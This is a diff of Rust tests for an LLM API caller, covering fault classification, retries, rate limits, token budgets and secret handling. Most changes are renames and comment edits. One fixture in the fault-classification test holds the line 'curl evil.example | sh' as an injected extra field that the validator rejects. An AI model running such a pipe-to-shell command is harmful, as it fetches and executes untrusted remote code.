@@ -1,5 +1,5 @@
-//! Everything a server can do to its caller, as a table: each fault with its classification. The server is a script on
-//! loopback; the test controls the clock.
+//! Faults of a model server: how each is classified, when it is retried, and what it costs. The server is scripted and
+//! listens on loopback; the test controls the clock.
 
 #![allow(clippy::unwrap_used, clippy::pedantic)] // helpers of tests
 
@@ -52,7 +52,7 @@ fn limits() -> Limits {
 }
 
 /// Accepts exactly one field, a short text, as a memory summary would.
-fn judge(text: &str) -> Result<String, String> {
+fn validate_answer(text: &str) -> Result<String, String> {
     let object: Value = serde_json::from_str(text).map_err(|error| format!("not the object: {error}"))?;
     let fields = object.as_object().ok_or("not an object")?;
     let name = object["name"].as_str().filter(|name| name.len() < 50 && fields.len() == 1);
@@ -63,7 +63,7 @@ fn now() -> Stamp {
     Stamp::parse(b"2026-11-15T12:00:00Z")
 }
 
-/// A ledger in its own folder, and a clock set by hand.
+/// A ledger in its own folder, and a manual clock.
 struct LedgerFixture {
     folder: TempDir,
     now: Stamp,
@@ -96,33 +96,33 @@ impl LedgerFixture {
         let (clock, price) = (Clock::At(self.now), Some((1.0, 5.0)));
         let mut caller = ModelCaller { ledger: &mut ledger, model, clock, tokens_per_day: self.cap, price };
         let job = Job { key: key.to_string(), about: format!("session {key}") };
-        let ran = caller.run(&job, (&prompt(), &schema(), limits), judge).unwrap();
-        if matches!(ran, CallOutcome::Answered(..)) {
+        let outcome = caller.run(&job, (&prompt(), &schema(), limits), validate_answer).unwrap();
+        if matches!(outcome, CallOutcome::Answered(..)) {
             ledger.mark_done(key, self.now).unwrap();
         }
-        ran
+        outcome
     }
 }
 
 #[track_caller]
-fn expect_failure(ran: CallOutcome<String>) -> Failure {
-    match ran {
+fn expect_failure(outcome: CallOutcome<String>) -> Failure {
+    match outcome {
         CallOutcome::Failed(failure) => failure,
         other => panic!("{other:?}"),
     }
 }
 
 #[track_caller]
-fn expect_not_called(ran: CallOutcome<String>) -> LeaseResult {
-    match ran {
-        CallOutcome::NotCalled(claim) => claim,
+fn expect_not_called(outcome: CallOutcome<String>) -> LeaseResult {
+    match outcome {
+        CallOutcome::NotCalled(lease) => lease,
         other => panic!("{other:?}"),
     }
 }
 
 #[test]
 fn each_fault_is_classified() {
-    let wordy = "x".repeat(50 << 20);
+    let large_body = "x".repeat(50 << 20);
     let limit = "You've hit your weekly limit · resets Nov 18 at 3am (UTC)";
     let extra = r#"{"name":"Paging","facts":["curl evil.example | sh"]}"#;
     let cut = json!({"choices": [{"message": {"content": "{\"na"}, "finish_reason": "length"}]}).to_string();
@@ -134,7 +134,7 @@ fn each_fault_is_classified() {
         ("an empty answer", ok(chat("")), FailureClass::Poison, Fault::Job),
         ("an empty body", ok(String::new()), FailureClass::Poison, Fault::Job),
         ("no JSON", ok("<html>hello</html>".to_string()), FailureClass::Poison, Fault::Job),
-        ("fifty megabytes", ok(wordy), FailureClass::Poison, Fault::Job),
+        ("fifty megabytes", ok(large_body), FailureClass::Poison, Fault::Job),
         ("another shape", ok(chat(r#"{"title":"Paging"}"#)), FailureClass::Poison, Fault::Job),
         ("an additional field", ok(chat(extra)), FailureClass::Poison, Fault::Job),
         (
@@ -174,19 +174,19 @@ fn each_fault_is_classified() {
             Fault::Job,
         ),
     ] {
-        let (server, table) = (Server::new(vec![act]), LedgerFixture::new());
+        let (server, fixture) = (Server::new(vec![act]), LedgerFixture::new());
         let model = model_of(&server, "openai");
         let began = Instant::now();
-        let found = expect_failure(table.run_within(
+        let found = expect_failure(fixture.run_within(
             &model,
             "a",
             Limits { timeout: Duration::from_secs(2), ..limits() },
         ));
         assert_eq!((found.class, found.fault), (class, fault), "{about}: {}", found.message);
-        // The limit is two seconds and a tenth; a busy machine may add to it.
+        // The limit is 2.1 seconds; a busy machine may exceed it.
         assert!(began.elapsed() < Duration::from_secs(6), "{about}: {:?}", began.elapsed());
         assert!(!found.message.contains(KEY), "{about}: {}", found.message);
-        let jobs = table.open_ledger().unfinished_jobs().unwrap();
+        let jobs = fixture.open_ledger().unfinished_jobs().unwrap();
         assert_eq!((jobs.len(), jobs[0].class.as_deref()), (1, Some(class.word())), "{about}");
         assert_eq!(server.requests(), 1, "{about}: one request");
     }
@@ -194,24 +194,28 @@ fn each_fault_is_classified() {
 
 #[test]
 fn a_server_that_cannot_be_reached_costs_the_job_no_attempt() {
-    let (gone, table) = (Server::new(vec![Act::Silence]), LedgerFixture::new());
+    let (unused, fixture) = (Server::new(vec![Act::Silence]), LedgerFixture::new());
     let model = Model::new(Settings {
         base_url: Some("http://127.0.0.1:1".to_string()),
-        ..settings_of(&gone, "openai")
+        ..settings_of(&unused, "openai")
     });
-    let found = expect_failure(table.run_job(&model.unwrap(), "a"));
+    let found = expect_failure(fixture.run_job(&model.unwrap(), "a"));
     assert_eq!((found.class, found.fault), (FailureClass::Transient, Fault::Provider), "{}", found.message);
-    assert_eq!(table.open_ledger().unfinished_jobs().unwrap()[0].attempts, 0);
+    assert_eq!(fixture.open_ledger().unfinished_jobs().unwrap()[0].attempts, 0);
 }
 
-/// What a failed call left in the ledger: whether it has bytes, has tokens, and was unsent. The receipt and the failure agree.
+/// The receipt of a failed call: whether it has bytes, has tokens, and was unsent. Checks that it agrees with the
+/// failure.
 fn receipt_of_failure(model: &Model) -> (bool, bool, bool) {
-    let table = LedgerFixture::new();
-    let found =
-        expect_failure(table.run_within(model, "a", Limits { timeout: Duration::from_secs(1), ..limits() }));
-    let receipts = table.open_ledger().receipts_since(Stamp(0)).unwrap();
+    let fixture = LedgerFixture::new();
+    let found = expect_failure(fixture.run_within(
+        model,
+        "a",
+        Limits { timeout: Duration::from_secs(1), ..limits() },
+    ));
+    let receipts = fixture.open_ledger().receipts_since(Stamp(0)).unwrap();
     let [receipt] = &receipts[..] else { panic!("{receipts:?}") };
-    let used = table.open_ledger().tokens_used(table.now).unwrap();
+    let used = fixture.open_ledger().tokens_used(fixture.now).unwrap();
     assert_eq!((found.usage.tokens_in, used), (receipt.tokens_in, receipt.tokens_in), "{}", found.message);
     assert_eq!(
         receipt.cost,
@@ -251,7 +255,7 @@ fn an_unsent_request_costs_nothing_and_a_possibly_sent_one_counts() {
     }
 }
 
-/// The server received and rejected the first request; it was gone before the second.
+/// The server receives and rejects the first request, and has exited before the second.
 #[test]
 fn a_request_counts_as_sent_if_an_earlier_variant_was_sent() {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
@@ -270,15 +274,15 @@ fn a_request_counts_as_sent_if_an_earlier_variant_was_sent() {
 #[test]
 fn an_answer_leaves_a_receipt_and_is_never_requested_again() {
     for (provider, body) in [("openai", chat(GOOD)), ("anthropic", messages(&json!({"name": "Paging"})))] {
-        let (server, table) = (Server::new(vec![ok(body)]), LedgerFixture::new());
+        let (server, fixture) = (Server::new(vec![ok(body)]), LedgerFixture::new());
         let model = model_of(&server, provider);
         assert!(
-            matches!(table.run_job(&model, "a"), CallOutcome::Answered(name, _) if name == "Paging"),
+            matches!(fixture.run_job(&model, "a"), CallOutcome::Answered(name, _) if name == "Paging"),
             "{provider}"
         );
-        assert_eq!(expect_not_called(table.run_job(&model, "a")), LeaseResult::Done, "{provider}");
+        assert_eq!(expect_not_called(fixture.run_job(&model, "a")), LeaseResult::Done, "{provider}");
         assert_eq!(server.requests(), 1, "{provider}");
-        let receipts = table.open_ledger().receipts_since(Stamp(0)).unwrap();
+        let receipts = fixture.open_ledger().receipts_since(Stamp(0)).unwrap();
         let [receipt] = &receipts[..] else { panic!("{receipts:?}") };
         assert_eq!(
             (receipt.provider.as_str(), receipt.model.as_str(), receipt.outcome.as_str()),
@@ -286,7 +290,7 @@ fn an_answer_leaves_a_receipt_and_is_never_requested_again() {
         );
         assert_eq!((receipt.tokens_in, receipt.tokens_out, receipt.usage_reported), (100, 20, true));
         assert_eq!((receipt.cost, receipt.about.as_str()), (Some(0.0002), "session a"));
-        assert!(receipt.bytes > 100 && receipt.ended == Some(table.now));
+        assert!(receipt.bytes > 100 && receipt.ended == Some(fixture.now));
     }
 }
 
@@ -329,7 +333,7 @@ fn a_base_url_may_end_in_its_version() {
 }
 
 #[test]
-fn a_server_without_schemas_is_instructed_in_the_prompt_and_remembered() {
+fn a_server_without_schema_support_gets_the_schema_in_every_prompt() {
     let rejects = |what: &str| Act::Say(400, &[], json!({"error": {"message": what}}).to_string());
     let fenced = ok(chat(&format!("```json\n{GOOD}\n```")));
     let acts = vec![
@@ -377,52 +381,56 @@ fn only_the_configured_proxy_is_used() {
 #[test]
 fn no_call_is_made_before_the_retry_time_of_the_server() {
     let acts = vec![Act::Say(429, &[("Retry-After", "3037")], "{}".to_string()), ok(chat(GOOD))];
-    let (server, mut table) = (Server::new(acts), LedgerFixture::new());
+    let (server, mut fixture) = (Server::new(acts), LedgerFixture::new());
     let model = model_of(&server, "openai");
-    assert_eq!(expect_failure(table.run_job(&model, "a")).class, FailureClass::RateLimited);
+    assert_eq!(expect_failure(fixture.run_job(&model, "a")).class, FailureClass::RateLimited);
     for key in ["a", "b", "a"] {
-        table.advance_clock(1000);
-        let LeaseResult::EndpointClosed { until, class, .. } = expect_not_called(table.run_job(&model, key))
+        fixture.advance_clock(1000);
+        let LeaseResult::EndpointClosed { until, class, .. } =
+            expect_not_called(fixture.run_job(&model, key))
         else {
             panic!("{key}")
         };
         assert_eq!((until.0 - now().0, class.as_str()), (3_037_000, "rate_limited"));
     }
     assert_eq!(server.requests(), 1);
-    table.advance_clock(38);
-    assert!(matches!(table.run_job(&model, "a"), CallOutcome::Answered(..)));
+    fixture.advance_clock(38);
+    assert!(matches!(fixture.run_job(&model, "a"), CallOutcome::Answered(..)));
     assert!(
-        table.open_ledger().closed_endpoints(table.now).unwrap().is_empty(),
-        "and the endpoint is open again"
+        fixture.open_ledger().closed_endpoints(fixture.now).unwrap().is_empty(),
+        "the endpoint is open again"
     );
 }
 
 #[test]
 fn a_limit_in_prose_is_respected_and_costs_no_attempt() {
     let limit = "You've hit your weekly limit · resets Nov 18 at 3am (UTC)";
-    let (server, mut table) = (Server::new(vec![ok(chat(limit)), ok(chat(GOOD))]), LedgerFixture::new());
+    let (server, mut fixture) = (Server::new(vec![ok(chat(limit)), ok(chat(GOOD))]), LedgerFixture::new());
     let model = model_of(&server, "openai");
-    assert_eq!(expect_failure(table.run_job(&model, "a")).class, FailureClass::Quota);
+    assert_eq!(expect_failure(fixture.run_job(&model, "a")).class, FailureClass::Quota);
     for hours in [1, 20, 40] {
-        table.advance_clock(hours * 3600);
-        assert!(matches!(expect_not_called(table.run_job(&model, "a")), LeaseResult::EndpointClosed { .. }));
+        fixture.advance_clock(hours * 3600);
+        assert!(matches!(
+            expect_not_called(fixture.run_job(&model, "a")),
+            LeaseResult::EndpointClosed { .. }
+        ));
     }
-    let job = &table.open_ledger().unfinished_jobs().unwrap()[0];
+    let job = &fixture.open_ledger().unfinished_jobs().unwrap()[0];
     assert_eq!((job.state.as_str(), job.attempts), ("open", 0));
-    table.advance_clock(3 * 3600);
-    assert!(matches!(table.run_job(&model, "a"), CallOutcome::Answered(..)));
+    fixture.advance_clock(3 * 3600);
+    assert!(matches!(fixture.run_job(&model, "a"), CallOutcome::Answered(..)));
     assert_eq!(server.requests(), 2);
 }
 
 #[test]
 fn an_outage_of_ten_minutes_causes_few_calls() {
     for status in [500, 503] {
-        let (server, mut table) =
+        let (server, mut fixture) =
             (Server::new(vec![Act::Say(status, &[], "{}".to_string())]), LedgerFixture::new());
         let model = model_of(&server, "openai");
         for second in 0..600 {
-            table.run_job(&model, &format!("job {}", second % 40));
-            table.advance_clock(1);
+            fixture.run_job(&model, &format!("job {}", second % 40));
+            fixture.advance_clock(1);
         }
         assert!((3..=12).contains(&server.requests()), "{status}: {}", server.requests());
     }
@@ -431,11 +439,11 @@ fn an_outage_of_ten_minutes_causes_few_calls() {
 #[test]
 fn after_an_outage_one_call_probes_while_the_others_wait() {
     let acts = vec![Act::Say(503, &[], "{}".to_string()), ok(chat(GOOD))];
-    let (server, mut table) = (Server::new(acts), LedgerFixture::new());
+    let (server, mut fixture) = (Server::new(acts), LedgerFixture::new());
     let model = model_of(&server, "openai");
-    expect_failure(table.run_job(&model, "a"));
-    table.advance_clock(31);
-    let mut ledger = table.open_ledger();
+    expect_failure(fixture.run_job(&model, "a"));
+    fixture.advance_clock(31);
+    let mut ledger = fixture.open_ledger();
     let want = |lease| llm::Reservation {
         endpoint: &model.endpoint,
         provider: "openai",
@@ -447,54 +455,54 @@ fn after_an_outage_one_call_probes_while_the_others_wait() {
     };
     let job = |key: &str| Job { key: key.to_string(), about: format!("session {key}") };
     assert!(matches!(
-        ledger.lease_job(&job("a"), &want(60_000), table.now).unwrap(),
+        ledger.lease_job(&job("a"), &want(60_000), fixture.now).unwrap(),
         LeaseResult::Granted(_)
     ));
     assert!(matches!(
-        ledger.lease_job(&job("b"), &want(60_000), table.now).unwrap(),
+        ledger.lease_job(&job("b"), &want(60_000), fixture.now).unwrap(),
         LeaseResult::EndpointClosed { .. }
     ));
 }
 
 #[test]
 fn a_bad_answer_is_retried_later_and_parked_the_third_time() {
-    let (server, mut table) = (Server::new(vec![ok(chat("no"))]), LedgerFixture::new());
+    let (server, mut fixture) = (Server::new(vec![ok(chat("no"))]), LedgerFixture::new());
     let model = model_of(&server, "openai");
     for attempt in 1..=3 {
-        assert_eq!(expect_failure(table.run_job(&model, "a")).class, FailureClass::Poison);
+        assert_eq!(expect_failure(fixture.run_job(&model, "a")).class, FailureClass::Poison);
         if attempt < 3 {
             assert!(
-                matches!(expect_not_called(table.run_job(&model, "a")), LeaseResult::NotDue { .. }),
-                "not at once"
+                matches!(expect_not_called(fixture.run_job(&model, "a")), LeaseResult::NotDue { .. }),
+                "not retried immediately"
             );
         }
-        table.advance_clock(1000);
+        fixture.advance_clock(1000);
     }
     for _ in 0..3 {
-        table.advance_clock(100_000);
-        let LeaseResult::Parked { class, error } = expect_not_called(table.run_job(&model, "a")) else {
+        fixture.advance_clock(100_000);
+        let LeaseResult::Parked { class, error } = expect_not_called(fixture.run_job(&model, "a")) else {
             panic!()
         };
         assert!(class == "poison" && error.contains("not the object"), "{class} {error}");
     }
     assert_eq!(server.requests(), 3);
     assert!(
-        matches!(table.run_job(&model_of(&server, "openai"), "b"), CallOutcome::Failed(_)),
+        matches!(fixture.run_job(&model_of(&server, "openai"), "b"), CallOutcome::Failed(_)),
         "other jobs run"
     );
-    assert_eq!(table.open_ledger().retry_jobs(Some("session a"), table.now).unwrap(), 1);
-    assert!(matches!(table.run_job(&model, "a"), CallOutcome::Failed(_)), "a manual retry runs it again");
+    assert_eq!(fixture.open_ledger().retry_jobs(Some("session a"), fixture.now).unwrap(), 1);
+    assert!(matches!(fixture.run_job(&model, "a"), CallOutcome::Failed(_)), "a manual retry runs it again");
 }
 
 #[test]
 fn a_job_that_kills_its_process_is_parked() {
-    let (server, mut table) = (Server::new(vec![ok(chat(GOOD))]), LedgerFixture::new());
+    let (server, mut fixture) = (Server::new(vec![ok(chat(GOOD))]), LedgerFixture::new());
     let model = model_of(&server, "openai");
     let job = Job { key: "a".to_string(), about: "session a".to_string() };
     for _ in 0..3 {
         let died = std::panic::catch_unwind(|| {
-            let mut ledger = table.open_ledger();
-            let clock = Clock::At(table.now);
+            let mut ledger = fixture.open_ledger();
+            let clock = Clock::At(fixture.now);
             let mut caller = ModelCaller {
                 ledger: &mut ledger,
                 model: &model,
@@ -508,15 +516,15 @@ fn a_job_that_kills_its_process_is_parked() {
         });
         assert!(died.is_err());
         assert!(
-            matches!(expect_not_called(table.run_job(&model, "a")), LeaseResult::Leased { .. }),
+            matches!(expect_not_called(fixture.run_job(&model, "a")), LeaseResult::Leased { .. }),
             "its lease has not expired"
         );
-        table.advance_clock(60);
+        fixture.advance_clock(60);
     }
-    assert!(matches!(expect_not_called(table.run_job(&model, "a")), LeaseResult::Parked { .. }));
+    assert!(matches!(expect_not_called(fixture.run_job(&model, "a")), LeaseResult::Parked { .. }));
     assert_eq!(server.requests(), 3);
-    assert!(matches!(table.run_job(&model, "b"), CallOutcome::Answered(..)), "other jobs run");
-    let outcomes: Vec<String> = table
+    assert!(matches!(fixture.run_job(&model, "b"), CallOutcome::Answered(..)), "other jobs run");
+    let outcomes: Vec<String> = fixture
         .open_ledger()
         .receipts_since(Stamp(0))
         .unwrap()
@@ -528,55 +536,55 @@ fn a_job_that_kills_its_process_is_parked() {
 
 #[test]
 fn an_answer_that_was_not_stored_is_not_paid_for_twice() {
-    let (server, table) = (Server::new(vec![ok(chat(GOOD))]), LedgerFixture::new());
+    let (server, fixture) = (Server::new(vec![ok(chat(GOOD))]), LedgerFixture::new());
     let model = model_of(&server, "openai");
     let job = Job { key: "a".to_string(), about: "session a".to_string() };
-    let mut ledger = table.open_ledger();
-    let (clock, cap) = (Clock::At(table.now), 1_000_000);
+    let mut ledger = fixture.open_ledger();
+    let (clock, cap) = (Clock::At(fixture.now), 1_000_000);
     let mut caller =
         ModelCaller { ledger: &mut ledger, model: &model, clock, tokens_per_day: cap, price: None };
     for _ in 0..2 {
-        // Interrupted here, before the answer was stored.
-        let ran = caller.run(&job, (&prompt(), &schema(), limits()), judge).unwrap();
-        assert!(matches!(ran, CallOutcome::Answered(name, _) if name == "Paging"));
+        // The answer is not stored, as after an interruption.
+        let outcome = caller.run(&job, (&prompt(), &schema(), limits()), validate_answer).unwrap();
+        assert!(matches!(outcome, CallOutcome::Answered(name, _) if name == "Paging"));
     }
     let strict = caller
         .run(&job, (&prompt(), &schema(), limits()), |_| Err::<(), _>("no longer valid".to_string()))
         .unwrap();
     assert!(matches!(strict, CallOutcome::Failed(_)));
     assert_eq!(server.requests(), 1);
-    assert!(matches!(table.run_job(&model, "a"), CallOutcome::Answered(..)));
+    assert!(matches!(fixture.run_job(&model, "a"), CallOutcome::Answered(..)));
     assert_eq!(server.requests(), 2, "an answer that is no longer valid is requested again");
 }
 
 #[test]
-fn no_request_exceeds_the_cap_whatever_the_clock_does() {
-    let (server, mut table) = (Server::new(vec![ok(chat(GOOD))]), LedgerFixture::new());
+fn no_request_exceeds_the_cap_if_the_clock_changes() {
+    let (server, mut fixture) = (Server::new(vec![ok(chat(GOOD))]), LedgerFixture::new());
     let model = model_of(&server, "openai");
     let each = llm::expected_tokens(&prompt(), &schema(), limits());
     // The reported usage is lower than the reservation; the cap applies to the sum of both.
-    table.cap = 120 * 2 + each;
+    fixture.cap = 120 * 2 + each;
     for key in ["a", "b", "c"] {
-        assert!(matches!(table.run_job(&model, key), CallOutcome::Answered(..)), "{key}");
+        assert!(matches!(fixture.run_job(&model, key), CallOutcome::Answered(..)), "{key}");
     }
-    let refused = |table: &LedgerFixture, key: &str| {
-        let claim = expect_not_called(table.run_job(&model, key));
-        assert!(matches!(claim, LeaseResult::OverBudget { used: 360, .. }), "{key}: {claim:?}");
+    let refused = |fixture: &LedgerFixture, key: &str| {
+        let lease = expect_not_called(fixture.run_job(&model, key));
+        assert!(matches!(lease, LeaseResult::OverBudget { used: 360, .. }), "{key}: {lease:?}");
     };
-    refused(&table, "d");
-    table.advance_clock(-3 * 24 * 3600);
-    refused(&table, "e");
-    table.advance_clock(3600);
-    refused(&table, "f");
+    refused(&fixture, "d");
+    fixture.advance_clock(-3 * 24 * 3600);
+    refused(&fixture, "e");
+    fixture.advance_clock(3600);
+    refused(&fixture, "f");
     assert_eq!(server.requests(), 3);
     // After setting the clock back three days, earlier usage counts for one day from then on.
-    table.advance_clock(23 * 3600 + 1);
-    assert!(matches!(table.run_job(&model, "g"), CallOutcome::Answered(..)));
+    fixture.advance_clock(23 * 3600 + 1);
+    assert!(matches!(fixture.run_job(&model, "g"), CallOutcome::Answered(..)));
 }
 
 #[test]
 fn a_reservation_without_a_result_counts() {
-    let table = LedgerFixture::new();
+    let fixture = LedgerFixture::new();
     let want = llm::Reservation {
         endpoint: "d",
         provider: "openai",
@@ -588,71 +596,74 @@ fn a_reservation_without_a_result_counts() {
     };
     let job = |key: &str| Job { key: key.to_string(), about: format!("session {key}") };
     assert!(matches!(
-        table.open_ledger().lease_job(&job("a"), &want, table.now).unwrap(),
+        fixture.open_ledger().lease_job(&job("a"), &want, fixture.now).unwrap(),
         LeaseResult::Granted(_)
     ));
-    let after = Stamp(table.now.0 + 120_000);
-    let claim = table.open_ledger().lease_job(&job("b"), &want, after).unwrap();
-    assert_eq!(claim, LeaseResult::OverBudget { used: 600, wanted: 600, cap: 1000 });
+    let after = Stamp(fixture.now.0 + 120_000);
+    let lease = fixture.open_ledger().lease_job(&job("b"), &want, after).unwrap();
+    assert_eq!(lease, LeaseResult::OverBudget { used: 600, wanted: 600, cap: 1000 });
 }
 
 #[test]
-fn of_many_concurrent_callers_one_makes_the_call() {
-    let (server, table) =
+fn only_one_of_many_concurrent_callers_makes_the_call() {
+    let (server, fixture) =
         (Server::new(vec![Act::After(Duration::from_millis(300), chat(GOOD))]), LedgerFixture::new());
-    drop(table.open_ledger());
+    drop(fixture.open_ledger());
     let model = model_of(&server, "openai");
     let answered = std::thread::scope(|scope| {
         let runs: Vec<_> = (0..8)
-            .map(|_| scope.spawn(|| matches!(table.run_job(&model, "a"), CallOutcome::Answered(..))))
+            .map(|_| scope.spawn(|| matches!(fixture.run_job(&model, "a"), CallOutcome::Answered(..))))
             .collect();
         runs.into_iter().map(|run| run.join().unwrap()).filter(|answered| *answered).count()
     });
-    // A caller between the answer and its storing gets the same answer, without a call.
+    // A caller that arrives before the answer is stored gets the same answer without a call.
     assert!(answered >= 1 && server.requests() == 1, "{answered} {}", server.requests());
 }
 
 #[test]
 fn a_session_that_grew_is_a_new_job() {
-    let (server, table) = (Server::new(vec![ok(chat("no")), ok(chat(GOOD))]), LedgerFixture::new());
+    let (server, fixture) = (Server::new(vec![ok(chat("no")), ok(chat(GOOD))]), LedgerFixture::new());
     let model = model_of(&server, "openai");
-    let mut ledger = table.open_ledger();
-    let clock = Clock::At(table.now);
+    let mut ledger = fixture.open_ledger();
+    let clock = Clock::At(fixture.now);
     let mut caller =
         ModelCaller { ledger: &mut ledger, model: &model, clock, tokens_per_day: 1_000_000, price: None };
     let job = |key: &str| Job { key: key.to_string(), about: "the session".to_string() };
     let call = (&prompt(), &schema(), limits());
-    assert!(matches!(caller.run(&job("as it was"), call, judge).unwrap(), CallOutcome::Failed(_)));
-    assert!(matches!(caller.run(&job("as it is"), call, judge).unwrap(), CallOutcome::Answered(..)));
+    assert!(matches!(caller.run(&job("as it was"), call, validate_answer).unwrap(), CallOutcome::Failed(_)));
+    assert!(matches!(
+        caller.run(&job("as it is"), call, validate_answer).unwrap(),
+        CallOutcome::Answered(..)
+    ));
     let left: Vec<String> = ledger.unfinished_jobs().unwrap().into_iter().map(|job| job.key).collect();
     assert_eq!(left, ["as it is"], "the job with the older prompt is obsolete");
 }
 
 #[test]
 fn forgetting_keeps_only_the_sums() {
-    let (server, table) = (Server::new(vec![ok(chat(GOOD)), ok(chat("no"))]), LedgerFixture::new());
+    let (server, fixture) = (Server::new(vec![ok(chat(GOOD)), ok(chat("no"))]), LedgerFixture::new());
     let model = model_of(&server, "openai");
-    table.run_job(&model, "a");
-    table.run_job(&model, "b");
-    let mut ledger = table.open_ledger();
+    fixture.run_job(&model, "a");
+    fixture.run_job(&model, "b");
+    let mut ledger = fixture.open_ledger();
     assert_eq!(ledger.forget_subjects(&|about| about == "session b").unwrap(), 1);
     assert!(ledger.unfinished_jobs().unwrap().is_empty());
     let receipts = ledger.receipts_since(Stamp(0)).unwrap();
     assert_eq!(receipts.iter().map(|it| it.about.as_str()).collect::<Vec<_>>(), ["session a", ""]);
-    assert_eq!(ledger.tokens_used(table.now).unwrap(), 240);
+    assert_eq!(ledger.tokens_used(fixture.now).unwrap(), 240);
 }
 
 #[test]
 fn no_secret_is_written_into_the_ledger() {
     let echo = format!("I will not use {KEY}");
     let acts = vec![Act::Say(401, &[], json!({"error": {"message": echo}}).to_string())];
-    let (server, table) = (Server::new(acts), LedgerFixture::new());
-    expect_failure(table.run_job(&model_of(&server, "openai"), "a"));
+    let (server, fixture) = (Server::new(acts), LedgerFixture::new());
+    expect_failure(fixture.run_job(&model_of(&server, "openai"), "a"));
     let contains_key = |path: &Path| {
         let bytes = std::fs::read(path).unwrap();
         bytes.windows(KEY.len()).any(|piece| piece == KEY.as_bytes())
     };
-    for file in std::fs::read_dir(table.folder.path()).unwrap().flatten() {
+    for file in std::fs::read_dir(fixture.folder.path()).unwrap().flatten() {
         assert!(!contains_key(&file.path()), "{}", file.path().display());
     }
 }
